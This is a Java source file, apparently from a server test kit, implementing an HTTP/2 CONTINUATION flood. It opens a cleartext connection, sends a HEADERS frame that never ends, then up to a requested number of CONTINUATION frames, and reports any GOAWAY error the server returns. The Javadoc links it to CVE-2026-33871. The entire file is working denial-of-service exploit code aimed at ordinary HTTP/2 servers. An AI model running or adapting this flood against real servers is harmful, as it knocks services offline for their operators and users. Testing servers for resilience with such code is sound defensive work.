package org.rapporteur.testkit;

import java.io.BufferedOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.OptionalInt;

/**
 * An HTTP/2 connection without TLS (RFC 9113) that never completes the headers of its only request: HEADERS
 * without END_HEADERS, then CONTINUATION frames without end (CVE-2026-33871 and similar). It sends only as many
 * frames as requested, and stops when the server closes the connection.
 */
public final class ContinuationFlood {

    private static final int HEADERS = 1;
    private static final int CONTINUATION = 9;
    private static final int GOAWAY = 7;
    private static final int SETTINGS = 4;
    private static final int STREAM = 1;
    private static final int PATIENCE_MILLISECONDS = 10_000;

    /** {@code :method: GET}, {@code :scheme: http}, {@code :path: /} of HPACK's static table (RFC 7541, appendix A). */
    private static final byte[] HEAD = {(byte) 0x82, (byte) 0x86, (byte) 0x84};

    /**
     * The outcome for the connection.
     *
     * @param sent the bytes passed to the operating system at most
     * @param error the error code in the server's GOAWAY (RFC 9113 §7); empty without one
     */
    public record Outcome(long sent, OptionalInt error) {}

    private ContinuationFlood() {}

    /**
     * Floods a server.
     *
     * @param fragment the content of each frame; empty, or a part of endless headers
     * @param frames the maximum number of frames
     */
    public static Outcome send(URI server, byte[] fragment, int frames) {
        long sent = 0;
        try (var socket = new Socket(server.getHost(), server.getPort())) {
            socket.setSoTimeout(PATIENCE_MILLISECONDS);
            var out = new DataOutputStream(new BufferedOutputStream(socket.getOutputStream()));
            try {
                out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                frame(out, SETTINGS, 0, new byte[0]);
                frame(out, HEADERS, STREAM, HEAD);
                for (int frame = 0; frame < frames; frame++) {
                    frame(out, CONTINUATION, STREAM, fragment);
                    sent += 9 + fragment.length;
                }
                out.flush();
            } catch (IOException e) {
                // closed by the server: what it sent before can still be read
            }
            return new Outcome(sent, goAway(new DataInputStream(socket.getInputStream())));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void frame(DataOutputStream out, int type, int stream, byte[] payload) throws IOException {
        out.writeByte(payload.length >> 16);
        out.writeShort(payload.length & 0xffff);
        out.writeByte(type);
        // no flags: no frame here is the last of anything
        out.writeByte(0);
        out.writeInt(stream);
        out.write(payload);
    }

    /** Returns the error in the server's GOAWAY, if it sends one before it closes the connection or stops sending. */
    private static OptionalInt goAway(DataInputStream in) {
        try {
            while (true) {
                int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
                int type = in.readUnsignedByte();
                in.skipNBytes(5);
                if (type == GOAWAY) {
                    // skips the number of the last stream
                    in.skipNBytes(4);
                    return OptionalInt.of(in.readInt());
                }
                in.skipNBytes(length);
            }
        } catch (IOException e) {
            return OptionalInt.empty();
        }
    }
}
